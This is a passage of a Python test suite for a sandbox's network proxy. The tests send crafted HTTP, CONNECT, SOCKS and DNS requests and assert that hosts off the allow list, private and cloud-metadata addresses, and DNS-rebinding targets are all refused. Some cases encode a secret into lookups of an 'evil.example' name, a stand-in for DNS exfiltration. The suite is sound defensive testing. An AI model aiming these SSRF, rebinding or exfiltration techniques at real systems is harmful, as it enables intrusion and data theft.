                               f"Host: localhost:{port}\r\n\r\n"},
        # Userinfo: the host is what follows the last '@'.
        {"op": "http", "send": f"GET http://localhost:{port}@{evil}/userinfo HTTP/1.1\r\n"
                               f"Host: localhost:{port}\r\n\r\n"},
        {"op": "http", "send": f"GET http://{evil}@localhost:{port}/userinfo HTTP/1.1\r\n"
                               f"Host: {evil}\r\n\r\n"},
        # Origin form (the Host header would be all there is to go by): refused.
        {"op": "http", "send": f"GET /origin HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n"},
        # A second request after the first on one connection is never served.
        {"op": "http", "send": f"GET http://localhost:{port}/first HTTP/1.1\r\n"
                               "Host: localhost\r\n\r\n"
                               f"GET http://{evil}/second HTTP/1.1\r\nHost: {evil}\r\n\r\n"},
        # CONNECT decides on its target, whatever the Host header says.
        {"op": "http", "send": f"CONNECT {evil}:{port} HTTP/1.1\r\n"
                               f"Host: localhost:{port}\r\n\r\n"},
        {"op": "http", "send": f"CONNECT localhost:{port} HTTP/1.1\r\n"
                               f"Host: {evil}:{other}\r\n\r\n",
         "then": f"GET /tunnel HTTP/1.1\r\nHost: {evil}:{other}\r\nConnection: close\r\n\r\n"},
        # Inside a tunnel, a proxy request for elsewhere is only bytes to the allowed end.
        {"op": "http", "send": f"CONNECT localhost:{port} HTTP/1.1\r\nHost: localhost\r\n\r\n",
         "then": f"GET http://{evil}:{other}/proxied HTTP/1.1\r\nHost: {evil}\r\n\r\n"},
    ]
    results, done = attack(sandbox, attacks, spec=localhost_on(port), log=resolver_log)
    assert results[0] == {"status": "HTTP/1.1 200 OK", "body": "served /uri-allowed\n"}
    assert results[1] == {"status": "HTTP/1.1 400 Bad Request",
                          "body": "lnk-sandbox: bad request: Found multiple Host: headers\n"}
    assert results[2]["status"] == "HTTP/1.1 403 Forbidden"
    assert results[2]["body"] == f"lnk-sandbox: {evil}:{port} is not in [network] allow\n"
    assert results[3]["status"] == "HTTP/1.1 403 Forbidden"
    assert results[4] == {"status": "HTTP/1.1 200 OK", "body": "served /userinfo\n"}
    assert results[5]["status"] == "HTTP/1.1 400 Bad Request"
    assert results[6] == {"status": "HTTP/1.1 200 OK", "body": "served /first\n"}
    assert results[7]["status"] == "HTTP/1.1 403 Forbidden"
    assert results[8] == {"status": "HTTP/1.1 200 Connection established",
                          "tunnel": "HTTP/1.0 200 OK"}
    assert results[9] == {"status": "HTTP/1.1 200 Connection established",
                          "tunnel": "HTTP/1.0 200 OK"}
    # Only the allowed end was reached; the Host headers it got are the program's own.
    assert server.requests == [
        ("/uri-allowed", f"localhost:{port}"),
        ("/userinfo", f"localhost:{port}"), ("/first", f"localhost:{port}"),
        ("/tunnel", f"{evil}:{other}"), (f"http://{evil}:{other}/proxied", evil)]
    assert other_server.requests == []
    assert asked(resolver_log) == ["localhost"] * 5
    assert done.stderr.count(f"lnk-sandbox: refused {evil}:") == 1  # once per name


# -- SOCKS5 ----------------------------------------------------------------------------------


def test_socks5_address_literals_only_when_listed(
        sandbox: Sandbox, resolver_log: Path, server: HostServer) -> None:
    v6 = HostServer("::1")
    try:
        port, v6port = server.port, v6.port
        only_names = [
            {"op": "socks", "atyp": 1, "host": "127.0.0.1", "port": port},
            {"op": "socks", "atyp": 4, "host": "::1", "port": v6port},
            {"op": "socks", "atyp": 4, "host": "::ffff:127.0.0.1", "port": port},
            {"op": "socks", "atyp": 4, "host": "::127.0.0.1", "port": port},
            {"op": "socks", "atyp": 3, "host": "127.0.0.1", "port": port},
            {"op": "socks", "atyp": 3, "host": "[::1]", "port": v6port},
            {"op": "socks", "atyp": 1, "host": "0.0.0.0", "port": port},
            {"op": "socks", "atyp": 4, "host": "::", "port": v6port},
        ]
        results, _ = attack(sandbox, only_names, spec=LOCALHOST_ONLY, log=resolver_log)
        assert results == [{"reply": SOCKS_NOT_ALLOWED}] * len(only_names)
        assert asked(resolver_log) == []

        listed = '[network]\nmode = "proxy"\nallow = ["127.0.0.1", "[::1]"]\n'
        get = "GET /{} HTTP/1.0\r\n\r\n"
        attacks = [
            {"op": "socks", "atyp": 1, "host": "127.0.0.1", "port": port,
             "send": get.format("v4")},
            {"op": "socks", "atyp": 4, "host": "::1", "port": v6port, "send": get.format("v6")},
            {"op": "socks", "atyp": 3, "host": "127.0.0.1", "port": port,
             "send": get.format("v4-as-name")},
            {"op": "socks", "atyp": 3, "host": "[0:0::1]", "port": v6port,
             "send": get.format("v6-as-name")},
            {"op": "socks", "atyp": 4, "host": "::ffff:127.0.0.1", "port": port},
            {"op": "socks", "atyp": 1, "host": "127.0.0.2", "port": port},
            {"op": "socks", "atyp": 3, "host": "localhost", "port": port},
            {"op": "socks", "atyp": 3, "host": "127.1", "port": port},
            {"op": "socks", "atyp": 3, "host": "::1%lo", "port": v6port},
        ]
        results, _ = attack(sandbox, attacks, spec=listed, log=resolver_log)
        assert results[:4] == [{"reply": SOCKS_OK, "response": "HTTP/1.0 200 OK"}] * 4
        assert results[4:] == [{"reply": SOCKS_NOT_ALLOWED}] * 5
        assert server.requests == [("/v4", None), ("/v4-as-name", None)]
        assert v6.requests == [("/v6", None), ("/v6-as-name", None)]
        assert asked(resolver_log) == []  # an address is connected to as it is
    finally:
        v6.close()


def test_socks_requests_other_than_a_socks5_connect(
        sandbox: Sandbox, resolver_log: Path, server: HostServer) -> None:
    """UDP ASSOCIATE (a DNS relay, were it served), BIND, SOCKS4a with a name, SOCKS5
    with authentication only: nothing is relayed and no name looked up, allowed or not."""
    secret = f"{_secret()}.evil.example".encode()
    port = struct.pack("!H", server.port)
    greeting = "050100"

    def name(host: bytes) -> str:
        return (bytes([3, len(host)]) + host).hex()

    attacks = [
        {"op": "raw_tcp", "port": 1080,
         "send": greeting + "05030001" + "0100007f" + "0035"},  # UDP ASSOCIATE to 127.0.0.1
        {"op": "raw_tcp", "port": 1080,
         "send": greeting + "050300" + name(b"localhost") + "0035"},
        {"op": "raw_tcp", "port": 1080,
         "send": greeting + "050200" + name(b"localhost") + port.hex()},  # BIND
        {"op": "raw_tcp", "port": 1080,
         "send": greeting + "050100" + "00" + secret.hex() + "0050"},  # an unknown type
        {"op": "raw_tcp", "port": 1080, "send": greeting + "050100" + "09" + "00" * 8},
        # SOCKS4a: version 4, address 0.0.0.1, then a user id and the name.
        {"op": "raw_tcp", "port": 1080,
         "send": "0401" + port.hex() + "00000001" + "00" + b"localhost".hex() + "00"},
        {"op": "raw_tcp", "port": 1080,
         "send": "0401" + port.hex() + "00000001" + "00" + secret.hex() + "00"},
        {"op": "raw_tcp", "port": 1080, "send": "050102" + "050100" + name(b"localhost")
         + port.hex()},  # only username/password offered
    ]
    results, _ = attack(sandbox, attacks, spec=LOCALHOST_ONLY, log=resolver_log)
    no_command = "0500" + "05070001000000000000"  # command not supported
    no_type = "0500" + "05080001000000000000"  # address type not supported
    assert results == [{"received": no_command}] * 3 + [
        {"received": no_type}, {"received": no_type}, {"received": ""}, {"received": ""},
        {"received": "05ff"}]
    assert server.requests == []
    assert asked(resolver_log) == []


def test_socks5_domain_names_of_255_bytes(sandbox: Sandbox, resolver_log: Path) -> None:
    """The longest a SOCKS5 request carries: refused whole, never looked up."""
    secret = _secret()
    names = [(secret + "." + "e" * 63 + ".") * 4, ("f" * 63 + ".") * 3 + "g" * 62 + ".",
             "h" * 255]
    names = [name[:255] for name in names]
    assert {len(name) for name in names} == {255}
    attacks = [{"op": "socks", "atyp": 3, "host": name, "port": 443} for name in names]
    results, done = attack(sandbox, attacks, spec=LOCALHOST_ONLY, log=resolver_log)
    assert results == [{"reply": SOCKS_NOT_ALLOWED}] * 3
    assert asked(resolver_log) == []
    assert done.stderr.count("lnk-sandbox: refused") == 3


# -- around the proxy: outside resolvers, raw sockets, the supervisor's unix sockets -----------


def test_dns_around_the_helper_goes_nowhere(sandbox: Sandbox, resolver_log: Path) -> None:
    """Raw packets to the host's own resolver and to others, and raw sockets."""
    host_resolvers = [line.split()[1] for line in Path("/etc/resolv.conf").read_text()
                      .splitlines() if line.startswith("nameserver")]
    outside = [*host_resolvers, "192.0.2.53", "8.8.8.8"]
    attacks: list[dict[str, Any]] = []
    for address in outside:
        family = "inet6" if ":" in address else "inet"
        attacks += [{"op": "connect", "family": family, "host": address, "port": 53,
                     "udp": True},
                    {"op": "connect", "family": family, "host": address, "port": 53}]
    attacks += [
        {"op": "connect", "family": "inet6", "host": "2001:4860:4860::8888", "port": 53,
         "udp": True},
        # A resolver on the sandbox's own loopback would be the program's own: none here.
        {"op": "connect", "family": "inet", "host": "127.0.0.53", "port": 53, "udp": True},
        {"op": "socket", "family": socket.AF_INET, "type": socket.SOCK_RAW,
         "proto": socket.IPPROTO_UDP},
        {"op": "socket", "family": socket.AF_PACKET, "type": socket.SOCK_RAW, "proto": 0},
    ]
    results, _ = attack(sandbox, attacks, spec=LOCALHOST_ONLY, log=resolver_log)
    # A host resolver on the host's loopback (127.0.0.53, say) is, by its address, the
    # sandbox's own loopback inside: nothing listens there.
    expected = [{"errno": errno.ECONNREFUSED if ipaddress.ip_address(address).is_loopback
                 else errno.ENETUNREACH} for address in outside for _ in (1, 2)]
    expected += [{"errno": errno.ENETUNREACH}, {"errno": errno.ECONNREFUSED},
                 {"errno": errno.EPERM}, {"errno": errno.EPERM}]
    assert results == expected
    assert asked(resolver_log) == []


def _run_folders(sandbox: Sandbox) -> list[Path]:
    return sorted((sandbox.lnk_home / "run").glob("net-*"))


def _waiting(sandbox: Sandbox, spec: str, log: Path) -> subprocess.Popen[str]:
    """A proxy-mode run whose attacker waits for its attacks on stdin."""
    path = sandbox.write_spec(spec, name=f"spec-{uuid.uuid4().hex[:8]}.toml")
    process = subprocess.Popen(
        [*sandbox.who.prefix, LNK, "sandbox", "run", "--yes", "--spec", str(path), "--",
         PYTHON_INSIDE, "-c", ATTACKER, "-"],
        cwd=sandbox.working_directory(spec), env=sandbox.env({LOG_VARIABLE: str(log)}),
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert process.stdout is not None
    lines = [process.stdout.readline(), process.stdout.readline()]
    assert lines[0].startswith("STARTED ") and lines[1] == "READY\n", lines
    return process


def _finish(process: subprocess.Popen[str], attacks: list[Any]
            ) -> list[dict[str, Any]]:
    stdout, stderr = process.communicate(json.dumps(attacks) + "\n", timeout=60)
    return _results("STARTED (read before)\n" + stdout, len(attacks), stderr)


def test_the_proxys_unix_sockets_are_out_of_reach(
        sandbox: Sandbox, resolver_log: Path, server: HostServer) -> None:
    """The supervisor's sockets, which the helper forwards to, by every path there is:
    this run's own and another run's of the same user (whose allow list is wider), even
    from a run granted to read the whole home folder holding $LNK_HOME."""
    wide = '[network]\nmode = "proxy"\nallow = ["localhost"]\n'
    narrow = '[network]\nmode = "proxy"\nallow = []\n[files]\nread = ["~"]\n'
    first = _waiting(sandbox, wide, resolver_log)
    try:
        (mine,) = _run_folders(sandbox)
        second = _waiting(sandbox, narrow, resolver_log)
        try:
            (theirs,) = [folder for folder in _run_folders(sandbox) if folder != mine]
            attacks: list[dict[str, Any]] = [
                {"op": "connect", "family": "unix", "path": str(folder / name)}
                for folder in (mine, theirs) for name in ("http.sock", "socks.sock",
                                                          "dns.sock")]
            attacks += [
                {"op": "listdir", "path": str(sandbox.lnk_home / "run")},
                {"op": "listdir", "path": str(sandbox.lnk_home)},
                {"op": "fds"},
                # Every unix socket of this network namespace (the helper's own, made
                # after it joined, among them): none is bound to a name to connect to.
                {"op": "read", "path": "/proc/net/unix"},
                # The other run's listeners inside are in its network namespace, not this
                # one: this run's own proxy answers, with this run's (empty) allow list.
                {"op": "socks", "atyp": 3, "host": "localhost", "port": server.port},
                {"op": "http", "send": f"GET http://localhost:{server.port}/ HTTP/1.1\r\n"
                                       "Host: localhost\r\n\r\n"},
            ]
            results = _finish(second, attacks)
        finally:
            second.kill()
            second.wait()
        own = _finish(first, [{"op": "connect", "family": "unix", "path": str(mine / name)}
                              for name in ("http.sock", "socks.sock", "dns.sock")])
    finally:
        first.kill()
        first.wait()
    assert results[:6] == [{"errno": errno.ENOENT}] * 6
    # $LNK_HOME (~/.lnk) is a dot entry of home: under read = ["~"] it is not there at
    # all inside, where it was an empty folder before home's configuration was hidden.
    assert results[6:8] == [{"errno": errno.ENOENT}, {"errno": errno.ENOENT}]
    assert not [t for t in results[8]["targets"] if str(sandbox.lnk_home) in t]
    sockets = results[9]["text"].splitlines()
    assert sockets[0].split()[-1] == "Path"
    assert [line for line in sockets[1:] if len(line.split()) != 7] == []
    assert results[10] == {"reply": SOCKS_NOT_ALLOWED}
    assert results[11]["status"] == "HTTP/1.1 403 Forbidden"
    assert own == [{"errno": errno.ENOENT}] * 3
    assert server.requests == []
    assert asked(resolver_log) == []


# -- the resolved-address guard: an allowed name leading to the host or a private network ---

LAB_PORT = 8080
PUBLIC = "198.51.100.7"  # no private kind: what a name may lead to
GUARD_SPEC = f'[network]\nmode = "proxy"\nallow = ["*.allowed.test:{LAB_PORT}"]\n'
# name -> (its address, how a refusal describes it); each with a real server there but
# the last, which needs a NAT64 gateway this lab has not.
REFUSED_KINDS = {
    "loop.allowed.test": ("127.0.0.1", "a loopback address"),
    "private.allowed.test": ("10.77.0.7", "a private address"),
    "cgnat.allowed.test": ("100.77.0.7", "a carrier-grade NAT address"),
    "linklocal.allowed.test": ("169.254.77.7", "a link-local address"),
    "metadata.allowed.test": ("169.254.169.254", "a cloud metadata address"),
    "mapped.allowed.test": ("::ffff:127.0.0.1",
                            "the IPv4-mapped form of a loopback address (127.0.0.1)"),
    "ula.allowed.test": ("fd77::7", "a unique local address"),
    "zero.allowed.test": ("0.0.0.0", "an unspecified address"),
    "nat64.allowed.test": ("64:ff9b::a4d:7",
                           "the NAT64 form of a private address (10.77.0.7)"),
}


def guard_lab(sandbox: Sandbox, extra: dict[str, list[list[str]]] | None = None) -> Lab:
    zone = {f"{name}.": [[address]] for name, (address, _) in REFUSED_KINDS.items()}
    zone["public.allowed.test."] = [[PUBLIC]]
    zone.update(extra or {})
    addresses = ["10.77.0.7", "100.77.0.7", "169.254.77.7", "169.254.169.254", "fd77::7",
                 PUBLIC]
    reachable = [a for a, _ in REFUSED_KINDS.values() if not a.startswith("64:")]
    return Lab(sandbox.base, zone, addresses, prove=[*reachable, PUBLIC], port=LAB_PORT)


def _name_attacks(name: str) -> list[dict[str, Any]]:
    return [
        {"op": "http", "send": f"GET http://{name}:{LAB_PORT}/absolute HTTP/1.1\r\n"
                               f"Host: {name}\r\n\r\n"},
        {"op": "http", "send": f"CONNECT {name}:{LAB_PORT} HTTP/1.1\r\nHost: {name}\r\n\r\n",
         "then": "GET /tunnel HTTP/1.0\r\n\r\n"},
        {"op": "socks", "atyp": 3, "host": name, "port": LAB_PORT,
         "send": "GET /socks HTTP/1.0\r\n\r\n"},
        {"op": "dns", "name": name, "type": A},
        {"op": "dns", "name": name, "type": AAAA, "transport": "tcp"},
        {"op": "getaddrinfo", "name": name},
    ]


def test_an_allowed_name_never_leads_to_the_host_or_a_private_network(
        sandbox: Sandbox, resolver_log: Path) -> None:
    """Each kind the guard refuses, with a server listening at that address, proven
    reachable from outside the sandbox first; by HTTP, CONNECT, SOCKS5 and the sandbox's
    own DNS, refused and reported naming the address found. A public address of the same
    zone, served by the same lab, goes through: the refusals are the guard's."""
    lab = guard_lab(sandbox)
    report = sandbox.base / "report.jsonl"
    names = [*REFUSED_KINDS, "public.allowed.test"]
    attacks = [one for name in names for one in _name_attacks(name)]
    done = lab.supervised(sandbox).lnk(
        "run", "--report", str(report), "--", PYTHON_INSIDE, "-c", ATTACKER,
        json.dumps(attacks), spec=GUARD_SPEC, env={LOG_VARIABLE: str(resolver_log)},
        timeout=180)
    results = _results(done.stdout, len(attacks), done.stderr)
    log = lab.log()
    for address, _ in REFUSED_KINDS.values():
        if not address.startswith("64:"):
            served = "127.0.0.1" if address in ("0.0.0.0", "::ffff:127.0.0.1") else address
            assert log["proof"][address] == f"200 served by {served}", address
    assert log["proof"][PUBLIC] == f"200 served by {PUBLIC}"
    for index, (name, (address, kind)) in enumerate(REFUSED_KINDS.items()):
        absolute, tunnel, socks, dns_a, dns_aaaa, resolved = results[index * 6:index * 6 + 6]
        why = (f"{name}:{LAB_PORT}: it resolves to {address}, {kind}; name that address "
               "or its range in [network] allow to reach it")
        assert absolute == {"status": "HTTP/1.1 403 Forbidden",
                            "body": f"lnk-sandbox: {why}\n"}, name
        assert tunnel == {"status": "HTTP/1.1 403 Forbidden"}, name
        assert socks == {"reply": SOCKS_NOT_ALLOWED}, name
        assert dns_a == dns_aaaa == {"id": True, "qr": 1, "rcode": REFUSED, "records": []}
        assert resolved == {"gaierror": socket.EAI_AGAIN}, name
        assert f"lnk-sandbox: refused {name}:{LAB_PORT}: it resolves to {address}" \
            in done.stderr
    public = results[len(REFUSED_KINDS) * 6:]
    assert public[0] == {"status": "HTTP/1.1 200 OK", "body": f"served by {PUBLIC}\n"}
    assert public[1] == {"status": "HTTP/1.1 200 Connection established",
                         "tunnel": "HTTP/1.0 200 OK"}
    assert public[2] == {"reply": SOCKS_OK, "response": "HTTP/1.0 200 OK"}
    assert public[3]["records"] == [["public.allowed.test", A, PUBLIC]]
    assert public[4] == {"id": True, "qr": 1, "rcode": NOERROR, "records": []}
    assert public[5] == {"addresses": [PUBLIC]}
    # Only the public address was ever reached; the refused ones, never.
    assert sorted(path for _, _, path in log["requests"]) == ["/absolute", "/socks",
                                                               "/tunnel"]
    assert {server for server, _, _ in log["requests"]} == {PUBLIC}
    events = [json.loads(line) for line in report.read_text().splitlines()]
    refused = {(e["resolved"], e["rule"]) for e in events}
    assert refused == {(address, "network.address")
                       for address, _ in REFUSED_KINDS.values()}
    assert done.returncode == 0


def test_a_dns_answer_that_changes_between_two_lookups(
        sandbox: Sandbox, resolver_log: Path) -> None:
    """DNS rebinding: the first lookup gives a public address (the sandbox's own DNS
    answers it), the next ones 127.0.0.1. The proxy looks the name up itself for each
    connection and judges what it finds then; the address the sandbox was given earlier
    is of no use to it (an address literal needs its own allow entry)."""
    lab = guard_lab(sandbox, {"rebind.allowed.test.": [[PUBLIC], ["127.0.0.1"]]})
    name = "rebind.allowed.test"
    attacks = [
        {"op": "dns", "name": name, "type": A},
        {"op": "http", "send": f"GET http://{name}:{LAB_PORT}/rebound HTTP/1.1\r\n"
                               f"Host: {name}\r\n\r\n"},
        {"op": "socks", "atyp": 3, "host": name, "port": LAB_PORT},
        {"op": "socks", "atyp": 1, "host": PUBLIC, "port": LAB_PORT},
        {"op": "dns", "name": name, "type": A, "transport": "tcp"},
    ]
    results, done = attack(lab.supervised(sandbox), attacks, spec=GUARD_SPEC,
                           log=resolver_log)
    assert results[0] == {"id": True, "qr": 1, "rcode": NOERROR,
                          "records": [[name, A, PUBLIC]]}
    assert results[1]["status"] == "HTTP/1.1 403 Forbidden"
    assert "it resolves to 127.0.0.1, a loopback address" in results[1]["body"]
    assert results[2:4] == [{"reply": SOCKS_NOT_ALLOWED}] * 2
    assert results[4] == {"id": True, "qr": 1, "rcode": REFUSED, "records": []}
    log = lab.log()
    assert log["requests"] == []
    assert [kind for asked, kind in log["questions"] if asked == f"{name}."].count("A") == 4
    assert asked(resolver_log) == [name] * 4
    assert f"lnk-sandbox: refused {name}:{LAB_PORT}: it resolves to 127.0.0.1" in done.stderr


def test_an_address_the_spec_names_is_reached_by_name(sandbox: Sandbox,
                                                      resolver_log: Path) -> None:
    """The way to a private service: name its address (or range) in allow."""
    lab = guard_lab(sandbox)
    spec = (f'[network]\nmode = "proxy"\nallow = ["*.allowed.test:{LAB_PORT}", '
            f'"10.77.0.0/16:{LAB_PORT}"]\ndeny = ["metadata.allowed.test"]\n')
    attacks = [
        {"op": "http", "send": f"GET http://private.allowed.test:{LAB_PORT}/named "
                               "HTTP/1.1\r\nHost: x\r\n\r\n"},
        {"op": "socks", "atyp": 1, "host": "10.77.0.7", "port": LAB_PORT,
         "send": "GET /literal HTTP/1.0\r\n\r\n"},
        {"op": "dns", "name": "private.allowed.test", "type": A},
        {"op": "http", "send": f"GET http://loop.allowed.test:{LAB_PORT}/ HTTP/1.1\r\n"
                               "Host: x\r\n\r\n"},
        {"op": "http", "send": f"GET http://metadata.allowed.test:{LAB_PORT}/ HTTP/1.1\r\n"
                               "Host: x\r\n\r\n"},
        {"op": "dns", "name": "metadata.allowed.test", "type": A},
    ]
    results, done = attack(lab.supervised(sandbox), attacks, spec=spec, log=resolver_log)
    assert results[0] == {"status": "HTTP/1.1 200 OK", "body": "served by 10.77.0.7\n"}
    assert results[1] == {"reply": SOCKS_OK, "response": "HTTP/1.0 200 OK"}
    assert results[2]["records"] == [["private.allowed.test", A, "10.77.0.7"]]
    assert results[3]["status"] == "HTTP/1.1 403 Forbidden"
    assert results[4] == {"status": "HTTP/1.1 403 Forbidden", "body": "lnk-sandbox: "
                          f"metadata.allowed.test:{LAB_PORT} is in [network] deny\n"}
    assert results[5] == {"id": True, "qr": 1, "rcode": REFUSED, "records": []}
    assert sorted(p for _, _, p in lab.log()["requests"]) == ["/literal", "/named"]
    assert "metadata.allowed.test" not in asked(resolver_log)  # denied: never looked up
    assert "lnk-sandbox: refused metadata.allowed.test:8080 (in [network] deny)" \
        in done.stderr


def test_an_address_in_deny_is_refused_whatever_name_leads_to_it(
        sandbox: Sandbox, resolver_log: Path) -> None:
    """`[network] deny` by address, end to end: a public address an allowed name resolves
    to is refused when deny names its range, by HTTP, CONNECT, SOCKS5 (by name and as a
    literal) and the sandbox's DNS; a name of the same zone leading elsewhere goes
    through, so the refusals are deny's."""
    lab = guard_lab(sandbox)
    spec = (f'[network]\nmode = "proxy"\nallow = ["*.allowed.test:{LAB_PORT}", '
            f'"10.77.0.0/16:{LAB_PORT}", "198.51.100.0/24:{LAB_PORT}"]\n'
            'deny = ["198.51.100.0/24"]\n')
    attacks = [
        {"op": "http", "send": f"GET http://private.allowed.test:{LAB_PORT}/named "
                               "HTTP/1.1\r\nHost: x\r\n\r\n"},
        *_name_attacks("public.allowed.test")[:4],
        {"op": "socks", "atyp": 1, "host": PUBLIC, "port": LAB_PORT,
         "send": "GET /literal HTTP/1.0\r\n\r\n"},
    ]
    results, done = attack(lab.supervised(sandbox), attacks, spec=spec, log=resolver_log)
    assert results[0] == {"status": "HTTP/1.1 200 OK", "body": "served by 10.77.0.7\n"}
    assert results[1]["status"] == "HTTP/1.1 403 Forbidden"
    assert f"it resolves to {PUBLIC}" in results[1]["body"]
    assert "[network] deny" in results[1]["body"]
    assert results[2]["status"] == "HTTP/1.1 403 Forbidden"
    assert results[3] == {"reply": SOCKS_NOT_ALLOWED}
    assert results[4] == {"id": True, "qr": 1, "rcode": REFUSED, "records": []}
    assert results[5] == {"reply": SOCKS_NOT_ALLOWED}
    # The lab served the allowed name only: nothing reached the denied address.
    assert sorted(p for _, _, p in lab.log()["requests"]) == ["/named"]
    assert f"lnk-sandbox: refused public.allowed.test:{LAB_PORT}" in done.stderr
